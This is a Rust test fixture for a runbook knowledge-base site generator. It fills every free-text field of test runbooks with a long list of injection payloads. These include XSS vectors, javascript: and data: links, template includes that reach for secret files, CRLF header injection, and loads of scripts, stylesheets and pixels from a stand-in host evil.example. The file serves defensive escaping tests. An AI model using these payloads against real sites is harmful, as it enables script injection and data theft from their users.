//! A knowledge base of an author who means harm: every text of the format, once with each payload.

use crate::site;
use std::path::{Path, PathBuf};
use std::sync::LazyLock;
use triagebook::graph::Graph;
use triagebook::source::{SourceFile, SourceMap};
use triagebook::syntax;

/// Ways in which text has become markup, script, a template or an include somewhere.
const PAYLOADS: &[&str] = &[
    "<script>pwned=1;alert(1)</script>",
    "</script><script>pwned=1</script>",
    "<ScRiPt src=https://evil.example/x.js></sCrIpT>",
    "<img src=x onerror=pwned=1>",
    "<img src=https://evil.example/pixel.gif>",
    "<img/src='x'/onerror=alert(1)>",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x dur=1s>",
    "<svg><a xlink:href=javascript:pwned=1><text>x</text></a></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.pwned=1</script>'></iframe></foreignObject></svg>",
    "</title></svg><img src=x onerror=pwned=1>",
    "</text></a></g></svg><script>pwned=1</script>",
    "<math><mtext><img src=x onerror=pwned=1></mtext></math>",
    "<math href=javascript:pwned=1>x</math>",
    "<iframe src=javascript:parent.pwned=1></iframe>",
    "<iframe srcdoc='&lt;script&gt;parent.pwned=1&lt;/script&gt;'></iframe>",
    "<object data=https://evil.example></object>",
    "<embed src=https://evil.example>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<style>@import url(https://evil.example/x.css);</style>",
    "<style>body{background:url(https://evil.example/x)}</style>",
    "<base href=https://evil.example/>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<form action=https://evil.example><button>x</button></form>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<video src=x onerror=pwned=1>",
    "<audio src=x onerror=pwned=1>",
    "<body onload=pwned=1>",
    "<marquee onstart=pwned=1>",
    "<div style='background:url(https://evil.example/x)'>",
    "<a href=javascript:pwned=1>x</a>",
    "<template><script>pwned=1</script></template>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
    "<!--><img src=x onerror=pwned=1>-->",
    "<![CDATA[><img src=x onerror=pwned=1>]]>",
    "<?xml version='1.0'?><x onload=pwned=1>",
    "\" onmouseover=\"pwned=1\" x=\"",
    "' onmouseover='pwned=1' x='",
    "\"><img src=x onerror=pwned=1>",
    "'><script>pwned=1</script>",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;img src=x onerror=pwned=1&#62;",
    "&colon;&Tab;&lpar;javascript&colon;alert(1)",
    "[x](javascript:pwned=1)",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#9;script:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5wd25lZD0xPC9zY3JpcHQ+)",
    "[x](vbscript:alert(1))",
    "[x](//evil.example)",
    "[x](<javascript:alert(1)>)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](https://evil.example/pixel.gif)",
    "![x](x \"onerror=pwned=1\")",
    "[![x](https://evil.example/p.gif)](javascript:pwned=1)",
    "`<img src=x onerror=pwned=1>`",
    "``` \"><script>pwned=1</script>\nx\n```",
    "```\n</code></pre><script>pwned=1</script>\n```",
    "    </code></pre><script>pwned=1</script>",
    "# <script>pwned=1</script>\n\n## x {#x onclick=pwned=1}",
    "x {#id .class onclick=pwned=1}",
    "| <script>pwned=1</script> | x |\n|-|-|\n| </td></tr></table><script>pwned=1</script> | y |",
    "> <script>pwned=1</script>\n\n- <img src=x onerror=pwned=1>",
    "x[^1]\n\n[^1]: <script>pwned=1</script>",
    "</section></main></body><script>pwned=1</script>",
    "<i class=\"fa fa-bug\"></i><script>pwned=1</script>",
    "{{#include ../../../secret.txt}}",
    "{{#include secret.txt}} {{#playground x.rs}} {{#title pwned}}",
    "\\{{#include secret.txt}}",
    "{{#runbooks}} {{ site }} {{ 1111111 * 7 }} {% if true %}{{ 1111111 * 7 }}{% endif %}",
    "{{{content}}} {{> head}} {{#each chapters}}{{name}}{{/each}}",
    "${alert(1)} #{alert(1)} <%= alert(1) %>",
    "\u{2028}<script>pwned=1</script>\u{2029}\u{202e}",
    "<script/src=data:,pwned=1></script>",
    "<script type=module>pwned=1</script>",
    "<script>/*</script><script>*/pwned=1</script>",
    "<scr<script>ipt>pwned=1</scr</script>ipt>",
    "<script\u{a0}>pwned=1</script>",
    "<script\n>pwned=1</script\n>",
    "%3Cscript%3Epwned=1%3C/script%3E",
    "\\u003cscript\\u003epwned=1\\u003c/script\\u003e",
    "\u{ff1c}script\u{ff1e}pwned=1\u{ff1c}/script\u{ff1e}",
    "+ADw-script+AD4-pwned=1+ADw-/script+AD4-",
    "<img src=1 href=1 onerror=\"pwned=1\"></img>",
    "<img src=\"x` `<script>pwned=1</script>\"` `>",
    "<img srcset='https://evil.example/1 1x' src=x>",
    "<img src=x onerror\u{c}=pwned=1>",
    "<img \u{0}src=x onerror=pwned=1>",
    "<IMG SRC=x ONERROR=&#112;wned=1>",
    "<picture><source srcset=https://evil.example/x><img></picture>",
    "<svg/onload=pwned=1//",
    "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>pwned=1</script></svg>#x\"/></svg>",
    "<svg><set attributeName=onmouseover to=pwned=1></svg>",
    "<svg><image href=https://evil.example/x></svg>",
    "<svg><style>@import 'https://evil.example/x.css';</style></svg>",
    "<svg><title><img src=x onerror=pwned=1></title></svg>",
    "<svg></p><style><a id=\"</style><img src=1 onerror=pwned=1>\">",
    "<math><mi//xlink:href=\"data:x,<script>pwned=1</script>\">",
    "<math><annotation-xml encoding=text/html><script>pwned=1</script></annotation-xml></math>",
    "<form><math><mtext></form><form><mglyph><style></math><img src onerror=pwned=1>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe onload=pwned=1></iframe>",
    "<frameset onload=pwned=1>",
    "<object data='data:text/html,<script>pwned=1</script>'></object>",
    "<embed src='data:image/svg+xml,<svg onload=pwned=1>'>",
    "<applet code=x archive=https://evil.example/x.jar></applet>",
    "<portal src=https://evil.example></portal>",
    "<fencedframe></fencedframe>",
    "<link rel=import href=https://evil.example/x>",
    "<link rel=preload as=script href=https://evil.example/x.js>",
    "<link rel=prefetch href=https://evil.example/x>",
    "<link rel=stylesheet href='data:text/css,body{display:none}'>",
    "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
    "<meta http-equiv=set-cookie content=a=b>",
    "<style>*{animation:x}@keyframes x{}</style><p onanimationstart=pwned=1>",
    "<style>@font-face{font-family:x;src:url(https://evil.example/f)}*{font-family:x}</style>",
    "<p style=\"animation:x\" onanimationend=pwned=1>x</p>",
    "<p style='behavior:url(#x)'>x</p>",
    "<a href=\"java\nscript:pwned=1\">x</a>",
    "<a href=\" javascript:pwned=1\">x</a>",
    "<a href=data:text/html,<script>pwned=1</script>>x</a>",
    "<a ping=https://evil.example href=#>x</a>",
    "<a target=_blank rel=opener href=https://evil.example>x</a>",
    "<area href=javascript:pwned=1>",
    "<button formaction=javascript:pwned=1>x</button>",
    "<isindex action=javascript:pwned=1 type=image>",
    "<select autofocus onfocus=pwned=1>",
    "<textarea autofocus onfocus=pwned=1></textarea>",
    "<keygen autofocus onfocus=pwned=1>",
    "<input type=image src=https://evil.example/x>",
    "<video poster=https://evil.example/x></video>",
    "<video><source onerror=pwned=1></video>",
    "<track src=https://evil.example/x>",
    "<bgsound src=https://evil.example/x>",
    "<table background=https://evil.example/x>",
    "<div popover id=x onbeforetoggle=pwned=1></div><button popovertarget=x>x</button>",
    "<dialog open onclose=pwned=1></dialog>",
    "<slot></slot><template shadowrootmode=open><script>pwned=1</script></template>",
    "<x contenteditable onblur=pwned=1 tabindex=1 id=x></x>",
    "<x onclick=pwned=1 accesskey=x>x</x>",
    "<xmp><p title=\"</xmp><script>pwned=1</script>\">",
    "<noembed><img title=\"</noembed><img src onerror=pwned=1>\"></noembed>",
    "<plaintext>",
    "<!--",
    "--><script>pwned=1</script>",
    "<!-- --!><img src=x onerror=pwned=1> -->",
    "<!DOCTYPE html><html><body onload=pwned=1>",
    "<div id=_walk data-tb-runbook=x data-tb-files=x></div>",
    "<div id=mdbook-content></div><base target=x>",
    "<form name=triagebook></form><img name=triagebookKept>",
    "__proto__",
    "constructor",
    "[x](javascript&colon;pwned=1)",
    "[x](\tjavascript:pwned=1)",
    "[x](java\nscript:pwned=1)",
    "[x](file:///etc/passwd)",
    "[x](blob:https://evil.example/x)",
    "[x](\\\\evil.example\\share)",
    "[x](/\\evil.example)",
    "[x](http://evil.example \"\\\" onmouseover=pwned=1 x=\\\"\")",
    "[<img src=x onerror=pwned=1>](https://evil.example)",
    "![](javascript:pwned=1)",
    "![x][r]\n\n[r]: https://evil.example/pixel.gif",
    "<https://evil.example/\"onmouseover=\"pwned=1>",
    "<pwned@evil.example?cc=x>",
    "$$\\href{javascript:pwned=1}{x}$$",
    "~~~js,editable\npwned=1\n~~~",
    "```mermaid\nclick x call pwned()\n```",
    "- [x] <input type=checkbox onclick=pwned=1>",
    "Term\n: <script>pwned=1</script>",
    "x ^[<script>pwned=1</script>]",
    ":::{.x onclick=pwned=1}\nx\n:::",
    "{{#rustdoc_include secret.txt}}{{#playground_include}}",
    "{{ get_env(name='HOME') }} {% include 'secret.txt' %}",
    "{{{{raw}}}}{{x}}{{{{/raw}}}} {{lookup this 'constructor'}}",
    "</script",
    "</textarea><script>pwned=1</script>",
    "';pwned=1//",
    "\\\";pwned=1//",
    "`;pwned=1//",
    "\r\nSet-Cookie: pwned=1",
    "\u{0}<script>pwned=1</script>",
    "\u{1b}]8;;javascript:pwned=1\u{7}x\u{1b}]8;;\u{7}",
    "\u{feff}<script>pwned=1</script>",
];

/// A runbook with `@` wherever an author may write free text.
const RUNBOOK: &str = "
runbook: NAME
title: @
summary: @
owner: @
reviewed: 2026-11-23
applies_to: [@]
sources:
  page: { title: @, url: @, seen: 2026-11-23 }
inputs:
  value: { ask: @, type: name, example: @, help: @ }
symptoms:
  seen: { title: @, detail: @, signatures: [@], next: look, unconfirmed: @, sources: [page] }
checks:
  look:
    title: @
    why: @
    run: [{ place: shell, command: @, note: @ }]
    ask: @
    minutes: 2
    outcomes:
      good: { title: @, detail: @, when: { property: @, equals: @ }, capture: { fact: @ }, samples: [@], next: done }
      bad: { title: @, when: { text: @ }, next: mend }
    unsure: give-up
    unconfirmed: @
    sources: [page]
fixes:
  mend:
    title: @
    detail: @
    requires: { look: bad }
    risk: change
    role: @
    impact: @
    steps: [{ do: @, place: shell, command: @, expect: @ }]
    stop_if: @
    rollback: [{ do: @, place: shell, command: @ }]
    wait: 15m
    verify: look
    attempts: { limit: 2, else: give-up }
    unconfirmed: @
  hopeless:
    title: @
    risk: outage
    role: @
    impact: @
    steps: [{ do: @ }]
    rollback: { none: @ }
    verify: look
ends:
  done: { title: @, detail: @, result: resolved }
  give-up: { title: @, detail: @, result: escalated, to: @, attach: [@], unconfirmed: @ }
";

const BASE: &str = "
title: @
summary: @
owner: @
contact: @
places:
  shell: { title: @, shell: powershell, open: @ }
glossary:
  term: { means: @, long: @ }
";

/// How many payloads there are.
pub(crate) const COUNT: usize = PAYLOADS.len();

/// One of them.
pub(crate) fn payload(number: usize) -> &'static str {
    PAYLOADS[number]
}

/// The site of that knowledge base.
pub(crate) fn site() -> &'static Path {
    static SITE: LazyLock<PathBuf> = LazyLock::new(|| {
        let (graph, sources) = graph();
        site::built("payload", &graph, &sources, &[])
    });
    &SITE
}

/// That knowledge base.
pub(crate) fn graph() -> (Graph, SourceMap) {
    let mut sources = SourceMap::default();
    let mut runbooks = Vec::new();
    for (number, payload) in PAYLOADS.iter().enumerate() {
        let text = RUNBOOK.replace("NAME", &format!("payload-{number}")).replace('@', &quoted(payload));
        let file = sources.add(SourceFile::new("payload.yaml", text.as_str()));
        let (runbook, findings) = syntax::runbook(file, &text);
        let runbook = runbook.unwrap_or_else(|| panic!("{payload}: {findings:?}"));
        assert!(runbook.symptoms.len() == 1 && runbook.fixes.len() == 2, "{payload}: {findings:?}");
        runbooks.push(runbook);
    }
    let text = BASE.replace('@', &quoted(&PAYLOADS[..12].join(" ")));
    let file = sources.add(SourceFile::new("knowledge-base.yaml", text.as_str()));
    let (base, findings) = syntax::knowledge_base(file, &text);
    let base = base.unwrap_or_else(|| panic!("{findings:?}"));
    (Graph::link(base, runbooks).0, sources)
}

/// A text as a double-quoted YAML scalar.
fn quoted(text: &str) -> String {
    serde_json::to_string(text).unwrap()
}
